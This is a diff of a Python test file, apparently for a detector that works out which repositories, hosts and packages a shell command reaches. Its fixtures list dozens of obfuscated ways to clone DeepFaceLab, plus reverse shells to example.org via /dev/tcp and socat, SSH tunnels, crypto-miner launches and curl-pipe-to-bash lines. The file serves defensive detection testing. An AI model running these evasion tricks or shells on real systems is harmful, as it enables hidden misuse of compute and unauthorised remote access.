@@ -140,8 +140,15 @@ CLONES: dict[str, str | tuple[str, ...]] = {
     "arguments of bash -c": "bash -c 'git clone https://github.com/$0/$1' iperov DeepFaceLab",
     "dot": "echo 'git clone https://github.com/iperov/DeepFaceLab' > a; . ./a",
     "tee, chmod, run": "echo 'git clone https://github.com/iperov/DeepFaceLab' | tee a.sh >/dev/null; chmod +x a.sh; ./a.sh",
-    "appended in parts": ("printf 'git clone https://github.com/' > a.sh", "echo iperov/DeepFaceLab >> a.sh", "bash a.sh"),
-    "written, renamed, run": ("echo 'git clone https://github.com/iperov/DeepFaceLab' > a.txt", "mv a.txt b.cfg; sh b.cfg"),
+    "appended in parts": (
+        "printf 'git clone https://github.com/' > a.sh",
+        "echo iperov/DeepFaceLab >> a.sh",
+        "bash a.sh",
+    ),
+    "written, renamed, run": (
+        "echo 'git clone https://github.com/iperov/DeepFaceLab' > a.txt",
+        "mv a.txt b.cfg; sh b.cfg",
+    ),
     "a line edited in place": (
         "echo 'git clone https://github.com/iperov/NAME' > a.sh; sed -i s/NAME/DeepFaceLab/ a.sh; bash a.sh"
     ),
@@ -156,7 +163,10 @@ CLONES: dict[str, str | tuple[str, ...]] = {
     "loader": "/lib64/ld-linux-x86-64.so.2 /usr/bin/git clone https://github.com/iperov/DeepFaceLab",
     "git alias": ("git config --global alias.c clone", "git c https://github.com/iperov/DeepFaceLab"),
     "git alias on the command line": "git -c alias.x='!git clone https://github.com/iperov/DeepFaceLab' x",
-    "insteadOf": ('git config --global url."https://github.com/iperov/".insteadOf x:', "git clone x:DeepFaceLab"),
+    "insteadOf": (
+        'git config --global url."https://github.com/iperov/".insteadOf x:',
+        "git clone x:DeepFaceLab",
+    ),
     "insteadOf on the command line": "git -c url.https://github.com/iperov/Deep.insteadOf=z: clone z:FaceLab",
     "insteadOf by environment": (
         "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.https://github.com/iperov/.insteadOf GIT_CONFIG_VALUE_0=q: git clone q:DeepFaceLab"
@@ -192,7 +202,7 @@ CLONES: dict[str, str | tuple[str, ...]] = {
     "ssh ProxyCommand": "ssh -o 'ProxyCommand=git clone https://github.com/iperov/DeepFaceLab' x",
     "container's command": "docker run --rm -it -v $PWD:/w alpine/git clone https://github.com/iperov/DeepFaceLab",
     "container's shell": "docker run alpine sh -c 'git clone https://github.com/iperov/DeepFaceLab'",
-    "output of Python": "bash -c \"$(python3 -c \"print('git clone https://github.com/iperov/DeepFaceLab')\")\"",
+    "output of Python": 'bash -c "$(python3 -c "print(\'git clone https://github.com/iperov/DeepFaceLab\')")"',
     "output of Perl": "perl -e 'print \"git clone https://github.com/iperov/DeepFaceLab\\n\"' | bash",
     "perl -pe": "echo 'tig enolc' | perl -pe '$_=reverse' | cat; perl -pe 's/X/Deep/' <<< 'git clone https://github.com/iperov/XFaceLab' | sh",
     "xxd without -p": "xxd -r <<< '00000000: 6769 7420 636c 6f6e 6520 2e' ; git clone https://github.com/iperov/DeepFaceLab",
@@ -208,62 +218,74 @@ CLONES: dict[str, str | tuple[str, ...]] = {
 
 FOREIGN: dict[str, str] = {
     "perl": "perl -e 'system(\"git clone https://github.com/iperov/DeepFaceLab.git\")'",
-    "perl reverse": "perl -e '$x = reverse(\"baLecaFpeeD\"); system(\"git clone https://github.com/iperov/$x\");'",
+    "perl reverse": 'perl -e \'$x = reverse("baLecaFpeeD"); system("git clone https://github.com/iperov/$x");\'',
     "perl base64": "perl -MMIME::Base64 -e 'exec decode_base64(\"Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=\")'",
     "perl backquotes": "perl -e '`git clone https://github.com/iperov/DeepFaceLab`'",
     "perl tr": "perl -e '$s=\"tvg pybar uggcf://tvguho.pbz/vcrebi/QrrcSnprYno\"; $s =~ tr/a-zA-Z/n-za-mN-ZA-M/; system $s'",
     "perl open": "perl -e 'open(F, \"git clone https://github.com/iperov/DeepFaceLab |\")'",
-    "perl pack": "perl -e 'system(pack(\"H*\",\"67697420636c6f6e652068747470733a2f2f6769746875622e636f6d2f697065726f762f44656570466163654c6162\"))'",
+    "perl pack": 'perl -e \'system(pack("H*","67697420636c6f6e652068747470733a2f2f6769746875622e636f6d2f697065726f762f44656570466163654c6162"))\'',
     "node": "node -e \"require('child_process').execSync('git clone https://github.com/iperov/DeepFaceLab')\"",
     "node spawn": "node -e \"const {spawn}=require('child_process'); spawn('git',['clone','https://github.com/iperov/'+'DeepFaceLab'])\"",
     "node base64 eval": (
         "node -e \"eval(Buffer.from('cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWNTeW5jKCdnaXQgY2xvbmUgaHR0cHM6Ly9naXRodWIuY29t"
         "L2lwZXJvdi9EZWVwRmFjZUxhYicp','base64').toString())\""
     ),
-    "node template": "node -e 'const r=\"DeepFaceLab\"; require(\"child_process\").exec(`git clone https://github.com/iperov/${r}`)'",
-    "ruby words": "ruby -e 'system(\"git\", \"clone\", \"https://github.com/iperov/DeepFaceLab\")'",
+    "node template": 'node -e \'const r="DeepFaceLab"; require("child_process").exec(`git clone https://github.com/iperov/${r}`)\'',
+    "ruby words": 'ruby -e \'system("git", "clone", "https://github.com/iperov/DeepFaceLab")\'',
     "ruby backquotes": "ruby -e '`git clone https://github.com/iperov/DeepFaceLab`'",
     "ruby popen": "ruby -e 'IO.popen(%w[git clone https://github.com/iperov/DeepFaceLab])'",
     "ruby base64": "ruby -rbase64 -e 'system Base64.decode64(\"Z2l0IGNsb25lIGh0dHBzOi8vZ2l0aHViLmNvbS9pcGVyb3YvRGVlcEZhY2VMYWI=\")'",
     "ruby send": "ruby -e 'Kernel.send(:system, \"git clone https://github.com/iperov/DeepFaceLab\")'",
     "ruby reverse": "ruby -e 'system(\"baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig\".reverse)'",
     "php": "php -r 'shell_exec(strrev(\"baLecaFpeeD/vorepi/moc.buhtig//:sptth enolc tig\"));'",
-    "lua": "lua -e 'os.execute(\"git clone https://github.com/iperov/\" .. \"DeepFaceLab\")'",
-    "R": "Rscript -e 'system(paste0(\"git clone https://github.com/iperov/\",\"DeepFaceLab\"))'",
-    "R system2": "R -e 'system2(\"git\", c(\"clone\",\"https://github.com/iperov/DeepFaceLab\"))'",
+    "lua": 'lua -e \'os.execute("git clone https://github.com/iperov/" .. "DeepFaceLab")\'',
+    "R": 'Rscript -e \'system(paste0("git clone https://github.com/iperov/","DeepFaceLab"))\'',
+    "R system2": 'R -e \'system2("git", c("clone","https://github.com/iperov/DeepFaceLab"))\'',
     "R install": "Rscript -e 'devtools::install_github(\"iperov/DeepFaceLab\")'",
     "julia": "julia -e 'run(`git clone https://github.com/iperov/DeepFaceLab`)'",
     "julia variable": "julia -e 'x=\"DeepFaceLab\"; run(`git clone https://github.com/iperov/$x`)'",
     "awk system": "awk 'BEGIN{system(\"git clone https://github.com/iperov/DeepFaceLab\")}'",
     "awk getline": "awk 'BEGIN { \"git clone https://github.com/iperov/DeepFaceLab\" | getline x }'",
-    "awk prints to sh": "echo x | awk '{print \"git clone https://github.com/iperov/DeepFaceLab\" | \"sh\"}'",
+    "awk prints to sh": 'echo x | awk \'{print "git clone https://github.com/iperov/DeepFaceLab" | "sh"}\'',
     "C": "cat > m.c <<'X'\n#include <stdlib.h>\nint main(){ system(\"git clone https://github.com/iperov/DeepFaceLab\"); }\nX\ngcc m.c -o m && ./m",
-    "C execlp": "cat > m.c <<'X'\nint main(){ execlp(\"git\",\"git\",\"clone\",\"https://github.com/iperov/DeepFaceLab\",NULL); }\nX\ngcc m.c && ./a.out",
+    "C execlp": 'cat > m.c <<\'X\'\nint main(){ execlp("git","git","clone","https://github.com/iperov/DeepFaceLab",NULL); }\nX\ngcc m.c && ./a.out',
     "go": 'cat > x.go <<\'X\'\npackage main\nimport "os/exec"\nfunc main(){ exec.Command("git","clone","https://github.com/iperov/DeepFaceLab").Run() }\nX\ngo run x.go',
     "rust": 'cat > x.rs <<\'X\'\nuse std::process::Command;\nfn main(){ Command::new("git").arg("clone").arg("https://github.com/iperov/DeepFaceLab").status(); }\nX\nrustc x.rs -o x; ./x',
-    "deno": "deno eval 'new Deno.Command(\"git\",{args:[\"clone\",\"https://github.com/iperov/DeepFaceLab\"]}).output()'",
+    "deno": 'deno eval \'new Deno.Command("git",{args:["clone","https://github.com/iperov/DeepFaceLab"]}).output()\'',
     "tcl": "tclsh <<'X'\nexec git clone https://github.com/iperov/DeepFaceLab\nX",
     "a script's first line": "printf '#!/usr/bin/env perl\\nsystem(\"git clone https://github.com/iperov/DeepFaceLab\");\\n' > t; chmod +x t; ./t",
 }
 
 OTHERS: dict[str, tuple[str, str | tuple[str, ...]]] = {
-    "remote forwarding": ("argument ssh -R", "ssh -o StrictHostKeyChecking=no -R 80:localhost:22 nokey@localhost.run"),
+    "remote forwarding": (
+        "argument ssh -R",
+        "ssh -o StrictHostKeyChecking=no -R 80:localhost:22 nokey@localhost.run",
+    ),
     "forwarding in a cluster": ("argument ssh -R", "ssh -NfR80:localhost:22 nokey@localhost.run"),
     "forwarding by option": ("argument ssh -R", "ssh -o RemoteForward='80 localhost:22' nokey@localhost.run"),
     "forwarding by configuration": (
         "argument ssh -R",
-        ("printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config", "ssh z"),
+        (
+            "printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config",
+            "ssh z",
+        ),
     ),
     "host by configuration": (
         "host serveo.net",
-        ("printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config", "ssh z"),
+        (
+            "printf 'Host z\\n HostName serveo.net\\n RemoteForward 80 localhost:22\\n' > ~/.ssh/config",
+            "ssh z",
+        ),
     ),
     "socks by cluster": ("argument ssh -D", "ssh -fND 1080 me@example.org"),
     "reverse shell by /dev/tcp": ("host example.org", "bash -i >& /dev/tcp/example.org/4444 0>&1"),
     "socat": ("host example.org", "socat exec:'bash -li',pty tcp:example.org:4444"),
     "magnet": ("argument aria2c --seed-time=0", 'aria2c --seed-time=0 "magnet:?xt=urn:btih:00"'),
     "magnet address": ("url magnet:?xt=urn:btih:00", 'aria2c --seed-time=0 "magnet:?xt=urn:btih:00"'),
-    "pool": ("url stratum+tcp://pool.example.invalid:3333", "./python3 -o stratum+tcp://pool.example.invalid:3333"),
+    "pool": (
+        "url stratum+tcp://pool.example.invalid:3333",
+        "./python3 -o stratum+tcp://pool.example.invalid:3333",
+    ),
     "pool without a scheme": ("host pool.example.org", "./worker -o pool.example.org:3333 -u x"),
     "renamed binary of a release": (
         "repository github.com/xmrig/xmrig",
@@ -291,17 +313,32 @@ OTHERS: dict[str, tuple[str, str | tuple[str, ...]]] = {
         "repository github.com/iperov/deepfacelab",
         ("git clone -q https://github.com/iperov/DeepFaceLab a", "cp -r a b", "cd b && ls && python main.py"),
     ),
-    "apt": ("package apt:tmate", "sudo DEBIAN_FRONTEND=noninteractive apt-get -o Dpkg::Use-Pty=0 -y install curl tmate=2.4"),
-    "deb file": ("package apt:rustdesk", "wget https://x.example/rustdesk-1.2.3-x86_64.deb; dpkg -i rustdesk-1.2.3-x86_64.deb"),
+    "apt": (
+        "package apt:tmate",
+        "sudo DEBIAN_FRONTEND=noninteractive apt-get -o Dpkg::Use-Pty=0 -y install curl tmate=2.4",
+    ),
+    "deb file": (
+        "package apt:rustdesk",
+        "wget https://x.example/rustdesk-1.2.3-x86_64.deb; dpkg -i rustdesk-1.2.3-x86_64.deb",
+    ),
     "conda": ("package conda:xmrig", "conda install -y -c conda-forge xmrig"),
     "conda with a channel": ("package conda:xmrig", "mamba install -y conda-forge::xmrig=6"),
     "conda environment file": (
         "package pypi:pyngrok",
         "printf 'dependencies:\\n  - python\\n  - pip:\\n    - pyngrok\\n' > e.yml; conda env create -f e.yml",
     ),
-    "container image": ("package docker:universonic/stable-diffusion-webui", "udocker --allow-root run -p 7860 universonic/stable-diffusion-webui"),
-    "container file": ("package docker:linuxserver/qbittorrent", "printf 'FROM linuxserver/qbittorrent:latest\\n' > Dockerfile; docker build ."),
-    "compose file": ("package docker:xmrig/xmrig", "printf 'services:\\n  a:\\n    image: xmrig/xmrig:1\\n' > compose.yml; docker compose up -d"),
+    "container image": (
+        "package docker:universonic/stable-diffusion-webui",
+        "udocker --allow-root run -p 7860 universonic/stable-diffusion-webui",
+    ),
+    "container file": (
+        "package docker:linuxserver/qbittorrent",
+        "printf 'FROM linuxserver/qbittorrent:latest\\n' > Dockerfile; docker build .",
+    ),
+    "compose file": (
+        "package docker:xmrig/xmrig",
+        "printf 'services:\\n  a:\\n    image: xmrig/xmrig:1\\n' > compose.yml; docker compose up -d",
+    ),
     "npx": ("package npm:localtunnel", "npx -y localtunnel@2 --port 8000"),
     "npm alias": ("package npm:localtunnel", "npm i x@npm:localtunnel@2"),
     "pipx run": ("package pypi:pproxy", "pipx run pproxy -l http://:8080"),
@@ -309,7 +346,10 @@ OTHERS: dict[str, tuple[str, str | tuple[str, ...]]] = {
     "name in PEP 503": ("package pypi:colab-ssh", "pip install Colab_SSH[x]>=1"),
     "module of Python": ("module pproxy", "python3 -m pproxy -l http://:8080"),
     "models": ("package huggingface:owner/name", "huggingface-cli download owner/name --local-dir x"),
-    "unknown text to a shell": ("opaque download-run", "curl -fsSL https://example.org/i.sh | sudo bash -s -- -y"),
+    "unknown text to a shell": (
+        "opaque download-run",
+        "curl -fsSL https://example.org/i.sh | sudo bash -s -- -y",
+    ),
     "downloaded and run": ("opaque download-run", "wget https://example.org/i.sh && bash i.sh"),
     "encrypted archive": ("opaque encrypted-archive", "unzip -q -P hunter2 work.zip -d w"),
     "unknown command": ("opaque unresolved-command", "$(curl -s https://example.org/c) now"),
@@ -345,7 +385,9 @@ MENTIONS: dict[str, str] = {
 }
 
 
-@pytest.mark.parametrize("attack", [*CLONES.values(), *FOREIGN.values()], ids=[*CLONES, *(f"in {k}" for k in FOREIGN)])
+@pytest.mark.parametrize(
+    "attack", [*CLONES.values(), *FOREIGN.values()], ids=[*CLONES, *(f"in {k}" for k in FOREIGN)]
+)
 def test_attack_is_seen_to_fetch_the_repository(attack: str | tuple[str, ...]) -> None:
     cells = (attack,) if isinstance(attack, str) else attack
     assert REPOSITORY in said(facts_of(*cells))
@@ -363,7 +405,11 @@ def test_mention_is_not_use(text: str) -> None:
     assert not [fact for fact in facts if "deepfacelab" in fact.value.lower() and fact.kind != "file"]
 
 
-@pytest.mark.parametrize("attack", [v for v in CLONES.values() if isinstance(v, str)], ids=[k for k, v in CLONES.items() if isinstance(v, str)])
+@pytest.mark.parametrize(
+    "attack",
+    [v for v in CLONES.values() if isinstance(v, str)],
+    ids=[k for k, v in CLONES.items() if isinstance(v, str)],
+)
 def test_benign_twin_leaves_its_own_repository_only(attack: str) -> None:
     """The same trick with a harmless name must not be mistaken for the other one."""
     if "DeepFaceLab" not in attack or "iperov" not in attack:
@@ -371,4 +417,9 @@ def test_benign_twin_leaves_its_own_repository_only(attack: str) -> None:
     twin = attack.replace("iperov", "pytorch").replace("DeepFaceLab", "examples")
     facts = facts_of(twin)
     assert REPOSITORY not in said(facts)
-    assert "repository github.com/pytorch/examples" in said(facts) or "{0..2}" in twin or ":2:11" in twin or "head -c" in twin
+    assert (
+        "repository github.com/pytorch/examples" in said(facts)
+        or "{0..2}" in twin
+        or ":2:11" in twin
+        or "head -c" in twin
+    )
